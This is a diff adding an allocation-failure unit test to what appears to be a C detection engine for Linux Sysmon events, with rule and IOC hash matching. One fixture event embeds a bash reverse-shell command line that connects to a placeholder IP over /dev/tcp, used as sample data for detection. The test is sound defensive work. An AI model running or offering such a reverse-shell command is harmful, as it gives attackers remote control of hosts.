@@ -498,6 +498,45 @@ test_uploads(void **state)
     evs_free(&e);
 }
 
+/* Every allocation of a worker and a batch may fail: clean errors, no crash, no leak. */
+static void
+test_alloc_failures(void **state)
+{
+    (void)state;
+    static struct got g;
+    struct evs e = {.n = 0};
+    evs_add(&e, "{\"Channel\":\"Linux-Sysmon/Operational\",\"EventID\":1,\"Computer\":\"h\","
+                "\"Image\":\"/usr/bin/bash\",\"CommandLine\":\"bash -i >& /dev/tcp/1.2.3.4/1 "
+                "0>&1\",\"Hashes\":\"SHA256=82C0AAD1330A0C428EE3F9B7FF0D5BA7E5238C550C58C17AA4ED"
+                "27382902E002\"}", 1);
+    evs_add(&e, "{\"Channel\":\"Linux-Sysmon/Operational\",\"EventID\":140,\"Computer\":\"h\","
+                "\"rule_id\":\"x\",\"trigger_kind\":1}", 140);
+    struct bn_ioc_set *set = bn_ioc_set_new();
+    assert_int_equal(bn_ioc_add(set, -2, "82c0aad1330a0c428ee3f9b7ff0d5ba7e5238c550c58c17aa4ed2738"
+                                "2902e002", 64, "t", NULL, NULL), 0);
+    for (unsigned long n = 1;; n++) {
+        g.n = 0;
+        bn_alloc_fail_after(n);
+        struct detect *d = NULL;
+        int rc = detect_new(&d, rules, collect, &g, NULL);
+        if (rc == 0)
+            rc = detect_set_iocs(d, 1, set);
+        if (rc == 0)
+            rc = detect_batch(d, 1, e.ev, e.n, 1764064800000000000LL);
+        bn_alloc_fail_after(0);
+        struct detect_stats st = {0};
+        if (d)
+            detect_get_stats(d, &st);
+        detect_free(d);
+        if (rc == 0 && st.match_errors == 0 && g.n == 3)
+            break;
+        assert_true(rc == 0 || rc == BN_ENOMEM);
+        assert_true(n < 100000);
+    }
+    bn_ioc_set_free(set);
+    evs_free(&e);
+}
+
 static void
 test_validate(void **state)
 {
@@ -532,7 +571,7 @@ main(void)
         cmocka_unit_test(test_rules_samples), cmocka_unit_test(test_alert_fields),
         cmocka_unit_test(test_correlation_tenants), cmocka_unit_test(test_iocs),
         cmocka_unit_test(test_agent_alerts), cmocka_unit_test(test_uploads),
-        cmocka_unit_test(test_validate),
+        cmocka_unit_test(test_alloc_failures), cmocka_unit_test(test_validate),
     };
     return cmocka_run_group_tests(tests, setup, teardown);
 }
